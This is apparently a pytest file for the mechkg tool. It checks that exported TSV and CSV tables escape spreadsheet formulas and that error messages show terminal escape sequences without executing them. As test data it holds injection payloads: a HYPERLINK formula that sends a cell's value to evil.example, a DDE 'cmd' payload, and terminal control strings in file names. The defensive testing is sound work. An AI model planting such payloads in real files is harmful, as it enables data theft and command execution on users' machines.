"""Tables mechkg writes never carry a spreadsheet formula, and text printed from data is
shown, never obeyed by the terminal."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

DATA = Path(__file__).parents[1] / "data"

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LABELS = {"a": FORMULA, "b": "+cmd|' /C calc'!A0", "c": "-2+3", "d": "@SUM(A1:A9)"}


@pytest.fixture()
def hostile(tmp_path):
    entities = "".join(
        f"  {k}: {{label: '{v.replace(chr(39), chr(39) * 2)}', type: Gene}}\n"
        for k, v in LABELS.items()
    )
    path = tmp_path / "c.yaml"
    path.write_text(
        "mechkg: 1\nsources:\n  s1: {kind: article, title: T}\n"
        f"entities:\n{entities}  e: {{label: '-0.5', type: Gene}}\n"
        "claims:\n"
        "  - {id: c1, subject: a, relation: increases, object: b, source: s1, evidence: inferred,"
        " quote: '=1+1', note: '@note'}\n"
        "  - {id: c2, subject: b, relation: increases, object: c, source: s1, evidence: inferred}\n"
        "  - {id: c3, subject: c, relation: increases, object: d, source: s1, evidence: inferred}\n"
        "  - {id: c4, subject: d, relation: increases, object: e, source: s1, evidence: inferred}\n"
    )
    return path


def _cells(text: str) -> list[str]:
    """The cells of a KGX table, read as KGX reads them (no quoting)."""
    table = csv.reader(io.StringIO(text), delimiter="\t", quoting=csv.QUOTE_NONE)
    return [cell for row in table for cell in row]


def _no_formula(cells: list[str]) -> None:
    bad = [c for c in cells if (c and c[0] in "=+@") or (c[:1] == "-" and c not in ("-0.5",))]
    assert not bad, bad


def test_kgx_cells_are_never_formulas(cli, hostile, tmp_path):
    out = tmp_path / "g.tsv"
    assert cli("export", "kgx", hostile, "-o", out).exit_code == 0
    nodes = (tmp_path / "g_nodes.tsv").read_text()
    edges = (tmp_path / "g_edges.tsv").read_text()
    _no_formula(_cells(nodes) + _cells(edges))
    assert f"'{FORMULA}" in _cells(nodes)
    assert "-0.5" in _cells(nodes)  # a number stays a number
    assert "'=1+1" in _cells(edges) and "'@note" in _cells(edges)


@pytest.mark.parametrize(
    "args",
    [
        ("paths", "a", "e", "{c}", "--format", "tsv"),
        ("neighbours", "b", "{c}", "--format", "tsv"),
        ("entities", "{c}", "--format", "tsv"),
    ],
)
def test_other_tsv_outputs_are_never_formulas(cli, hostile, args):
    result = cli(*(str(hostile) if a == "{c}" else a for a in args))
    assert result.exit_code == 0, result.stderr
    cells = _cells(result.stdout)
    _no_formula(cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_query_csv_cells_are_never_formulas(cli, hostile):
    result = cli(
        "query",
        "SELECT ?l WHERE { ?e <http://www.w3.org/2000/01/rdf-schema#label> ?l } ORDER BY ?l",
        hostile,
        "--format",
        "csv",
    )
    assert result.exit_code == 0, result.stderr
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    _no_formula(cells)
    assert f"'{FORMULA}" in cells


def test_escapes_in_error_messages_are_shown_not_obeyed(cli, tmp_path):
    # a file name that holds terminal controls, quoted back in the error
    name = tmp_path / "x\x1b]0;owned\x07.yaml"
    result = cli("validate", name)
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "\\x1b]0;owned\\x07" in result.stderr
    shown = cli("show", "\x1b[2Jnobody\u202e")
    assert shown.exit_code == 1
    assert "\x1b" not in shown.stderr and "\u202e" not in shown.stderr


def test_a_file_name_with_escapes_in_an_input_folder_is_shown_not_obeyed(cli, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "x\x1b]0;owned\x07.yaml").write_text((DATA / "thorough.yaml").read_text())
    result = cli("validate", folder)
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stdout and "x\\x1b]0;owned\\x07.yaml: valid" in result.stdout
